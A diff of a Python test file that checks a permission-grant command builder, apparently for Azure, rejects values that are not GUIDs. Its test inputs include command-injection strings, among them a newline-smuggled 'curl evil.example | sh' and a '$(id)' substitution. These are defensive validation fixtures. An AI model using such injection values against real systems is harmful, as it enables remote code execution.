@@ -106,10 +106,10 @@ def test_commands_are_for_the_application_in_the_database(principal: ServicePrin
     "value", ["a'\ncurl evil.example | sh\n'", f"{guid(1)}\n", f"{guid(1)}$(id)", "", f"{guid(1)}\x85x"]
 )
 def test_no_command_contains_a_value_that_is_not_a_guid(value: str) -> None:
-    with pytest.raises(SuretyError, match="not an id of Azure"):
+    with pytest.raises(SuretyError, match="not a valid id"):
         grant_of("Microsoft.Storage/storageAccounts/read", [], guid(2), [guid(1), value])
     for permission in ("Microsoft.Storage/storageAccounts/read", "Policy.Read.All"):
-        with pytest.raises(SuretyError, match="not an id of Azure"):
+        with pytest.raises(SuretyError, match="not a valid id"):
             grant_of(permission, [], value, [guid(1)])
 
 
